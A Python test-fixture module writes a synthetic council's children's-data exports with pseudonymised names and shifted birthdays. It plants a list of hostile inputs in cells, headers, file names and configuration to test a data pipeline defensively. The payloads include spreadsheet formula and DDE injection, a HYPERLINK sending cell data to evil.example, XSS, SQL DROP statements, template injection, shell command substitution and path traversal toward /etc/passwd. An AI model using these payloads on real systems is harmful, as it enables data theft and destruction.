"""A council whose exports attack, in cells, headers and file names, and whose children cannot be mistaken.

The synthetic council, with every child's name replaced by a word that stands nowhere else, and every birthday moved to
a day that is no other date in any export: what of them is found outside the places where it belongs has leaked.
"""

import csv
import hashlib
import io
import os
import re
import time
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import date, timedelta
from functools import cache
from itertools import count, cycle
from pathlib import Path
from typing import Any

from extract import contract as contracts
from extract.contract import Contract, normalise
from sample import council, layout
from send_ready import settings
from warehouse import load

# What of a child must never stand in a log, by its column in any contract.
NAMES = {"surname", "forename", "child_first_name", "child_last_name", "first_name", "last_name"}
BIRTHDAYS = {"date_of_birth", "child_dob", "person_birth_date"}
NUMBERS = {"upn", "former_upn", "child_upn", "uln"}
OF_OTHERS = {"establishment_name", "named_urn", "named_placement_urn", "named_dfe_number", "named_placement_dfe_number",
             "upn_unknown_reason", "upn_unknown", "named_plan_table_id"}  # of schools, and codes and keys  # fmt: skip

ATTACKS = (
    '=HYPERLINK("http://evil.example/?"&A1,"{}")',
    "={}+1",
    "+cmd|' /C calc'!A0 {}",
    "-2+3+{}",
    "@SUM(1+1)*{}",
    "\t=1+1 {}",
    "\r=1+1 {}",
    'DDE("cmd";"/C calc";"{}")',
    "＝1+1 {}",
    "＋1 {}",
    "－1 {}",
    "＠SUM(1) {}",
    "<script>alert('{}')</script>",
    '"><img src=x onerror=alert(1)> {}',
    "[{}](javascript:alert(1)) ![](http://evil.example/x.png)",
    "'; DROP TABLE text; DROP SCHEMA core CASCADE; -- {}",
    "{{{{ env_var('SEND_PUBLISH_URL') }}}} {{% set x = 1 %}} {}",
    "$(touch pwned) `touch pwned` ; touch pwned # {}",
    "http://evil.example/{}",
    "mailto:x@evil.example {}",
    "<r><t>{}</t></r>",
    "../../../../tmp/pwned {}",
)
HEADERS = (
    "=1+1",
    "x'); DROP TABLE body; --",
    "<script>alert(1)</script>",
    "",
    '"',
    "{{ env_var('SEND_PUBLISH_URL') }}",
)
FILE_NAMES = (  # of files that no feed knows
    "=HYPERLINK(x).csv",
    "$(touch pwned); `touch pwned`.csv",
    "<script>alert(1)<script>.csv",
    "..%2f..%2fetc%2fpasswd.csv",
    "..\\..\\pwned.xlsx",
    "line\nbreak.csv",
    "{{ env_var('SEND_PUBLISH_URL') }}.csv",
    b"not \xff utf-8.csv",
)
AFTER_THE_DATE = " '; DROP TABLE body; -- {{ 1 }} $(touch pwned) =1+1 <b>"  # of one that a feed does know


@dataclass(frozen=True)
class Children:
    """What of the children must not be found where it does not belong."""

    names: frozenset[str]  # lower case, a word each
    numbers: frozenset[str]
    birthdays: frozenset[date]


def write(inbox: Path, as_at: date, plans: int = 60, sen_support: int = 100) -> Children:
    """Write the exports, with planted faults, an attack in every column and hostile file names."""
    key = inbox.with_name("answer_key.csv")
    council.write(inbox, as_at=as_at, plans=plans, sen_support=sen_support, seed=5, faults=0.05, answer_key=key)
    exports = {each.id: _read(inbox, each, as_at) for each in _contracts()}
    birthdays = _moved(exports)
    for each in _contracts():
        rows = exports[each.id]
        for row in rows:
            for column in NAMES & row.keys():
                row[column] = _name(row[column])
            for column in BIRTHDAYS & row.keys():
                row[column] = birthdays.get(row[column], row[column])
        _attack(each, rows)
        _write(inbox, each, rows, as_at)
    for name in FILE_NAMES:
        (Path(os.fsdecode(os.fsencode(inbox) + b"/" + os.fsencode(name)))).write_text("a,b\n1,2\n")
    (plain,) = inbox.glob("capita_one_attendance_*.csv")
    plain.rename(plain.with_stem(plain.stem + AFTER_THE_DATE))
    for path in inbox.iterdir():
        os.utime(path, (time.time() - 60, time.time() - 60))  # no step waits for it to settle
    return _children(exports)


def write_config(folder: Path) -> None:
    """A council's own configuration, in which every text attacks: crosswalk, targets, decisions about persons."""
    seeds = settings.PROJECT / "dbt_project" / "seeds"
    attacks = in_config()
    crosswalk = _rows_of(seeds / "xwalk" / "xwalk_sen_type.csv")
    mapped = [{"local_value": attack, "code": crosswalk[0]["code"]} for attack in attacks]
    _write_rows(folder / "crosswalks" / "xwalk_sen_type.csv", crosswalk + mapped)
    targets = _rows_of(seeds / "kpi" / "kpi_targets.csv")
    _write_rows(
        folder / "targets" / "kpi_targets.csv",
        [{**row, "basis": attack} for row, attack in zip(targets, cycle(attacks), strict=False)],
    )
    decisions = [dict.fromkeys(load.DECISION_COLUMNS, attack) for attack in attacks]
    _write_rows(folder / "decisions" / "person_links.csv", decisions)


def in_config() -> list[str]:
    """The attacks as they stand there: a crosswalk takes no value twice, whatever the blanks around it."""
    return sorted({attack.format("config").strip() for attack in ATTACKS})


def _rows_of(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def _write_rows(path: Path, rows: list[dict[str, str]]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, "w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, list(rows[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)


NAME = re.compile(r"q[a-z]{11}")  # as every name of a child is written here, in lower case
NUMBER = re.compile(r"[a-z]?\d{8,12}[a-z]?")  # UPN and ULN, also with faults


def words(text: str) -> set[str]:
    """What in a text may be a name or a number of a child."""
    text = text.casefold()
    return {*NAME.findall(text), *NUMBER.findall(text)}


@cache
def _contracts() -> list[Contract]:
    """Of the exports that the sample council has; the others are optional, and no file of theirs comes."""
    every = contracts.load_all(settings.load({}))
    assert all(each.is_optional for each in every if each.id not in layout.FEEDS)
    return [each for each in every if each.id in layout.FEEDS]


def _path(inbox: Path, each: Contract, as_at: date) -> Path:
    (path,) = inbox.glob(f"{layout.file_name(each.id, as_at).partition('.')[0][:-8]}*.csv")
    return path


def _read(inbox: Path, each: Contract, as_at: date) -> list[dict[str, str]]:
    """Rows by column of the contract."""
    path = _path(inbox, each, as_at)
    text = path.read_text(encoding=layout.dialect(each.id).encoding, errors="replace")
    ours = layout.headers(each.id)
    known = {normalise(header): one.name for one in each.columns if one.name in ours for header in one.headers}
    rows = csv.DictReader(io.StringIO(text, newline=""))
    return [
        {known[normalise(h)]: value or "" for h, value in row.items() if normalise(h or "") in known} for row in rows
    ]


def _write(inbox: Path, each: Contract, rows: list[dict[str, str]], as_at: date) -> None:
    """In UTF-8, which any export may be in, with columns that no contract knows."""
    path, headers = _path(inbox, each, as_at), layout.headers(each.id)
    with open(path, "w", encoding="utf-8-sig", newline="") as file:
        writer = csv.writer(file, quoting=csv.QUOTE_ALL)
        writer.writerow([*(headers[column] for column in rows[0]), *HEADERS])
        attacks = cycle(ATTACKS)
        for row in rows:
            writer.writerow([*row.values(), *(next(attacks).format("extra") for _ in HEADERS)])


def _name(value: str) -> str:
    """A word of its own for each name, the same in every system; one in three comes as an attack."""
    if not value.strip():
        return value
    digest = hashlib.sha256(value.strip().casefold().encode()).digest()
    word = "q" + "".join(chr(97 + byte % 26) for byte in digest[:11])
    return ATTACKS[digest[-1] % len(ATTACKS)].format(word) if digest[-2] % 3 == 0 else word.capitalize()


def _moved(exports: dict[str, list[dict[str, str]]]) -> dict[str, str]:
    """Each birthday as written, to the nearest day on which nothing else happened, written likewise."""
    others = set(_dates_in_the_project())
    births: dict[str, tuple[date, str]] = {}
    for each in _contracts():
        dates = {column.name for column in each.columns if column.type in ("date", "datetime")}
        template = layout.dialect(each.id).dates
        for row in exports[each.id]:
            for column in dates & row.keys():
                found = _as_date(row[column], template)
                if found and column in BIRTHDAYS:
                    births[row[column]] = (found, template)
                elif found:
                    others.add(found)
    return {text: _written(_nearest(day, others), template) for text, (day, template) in births.items()}


def _dates_in_the_project() -> Iterator[date]:
    """Dates of SQL, seeds and unit tests, which dbt copies into what it keeps of a run."""
    for path in (settings.PROJECT / "dbt_project").rglob("*.*"):
        if path.suffix in (".sql", ".yml", ".csv"):
            found = (_as_date(text, "{0}-{1}-{2}") for text in re.findall(r"\d{4}-\d\d-\d\d", path.read_text("utf-8")))
            yield from filter(None, found)


def _nearest(day: date, taken: set[date]) -> date:
    return next(
        other
        for distance in count()
        for other in (day + timedelta(days=distance), day - timedelta(days=distance))
        if other not in taken and other.day != 1 and (other.month, other.day) != (8, 31)
    )


def _as_date(text: str, template: str) -> date | None:
    pattern = template.replace("{0}", r"(?P<y>\d{4})").replace("{1}", r"(?P<m>\d\d)").replace("{2}", r"(?P<d>\d\d)")
    match = re.match(pattern, text)
    try:
        return date(*(int(match[part]) for part in "ymd")) if match else None
    except ValueError:
        return None


def _written(day: date, template: str) -> str:
    return template.format(f"{day.year:04}", f"{day.month:02}", f"{day.day:02}")


def _attack(each: Contract, rows: list[dict[str, str]]) -> None:
    """Every attack in every column of text; one of them in every other column, and as every key."""
    for at, column in enumerate(each.columns):
        if column.name not in rows[0] or column.name in NAMES:
            continue
        if column.type == "text":
            for row, attack in zip(rows[:: max(1, len(rows) // 60)], ATTACKS, strict=False):
                row[column.name] = attack.format(column.name)
        elif rows:
            rows[-1 - at % len(rows)][column.name] = ATTACKS[at % len(ATTACKS)].format(column.name)


def _children(exports: dict[str, list[dict[str, str]]]) -> Children:
    found: dict[str, set[Any]] = {"names": set(), "numbers": set(), "birthdays": set()}
    for each in _contracts():
        template = layout.dialect(each.id).dates
        for row in exports[each.id]:
            for column in NAMES & row.keys():
                found["names"] |= set(NAME.findall(row[column].casefold()))
            for column in NUMBERS & row.keys():
                found["numbers"] |= {number for number in words(row[column]) if len(number) >= 10}
            for column in BIRTHDAYS & row.keys():
                if day := _as_date(row[column], template):
                    found["birthdays"].add(day)
    return Children(*(frozenset(found[name]) for name in ("names", "numbers", "birthdays")))
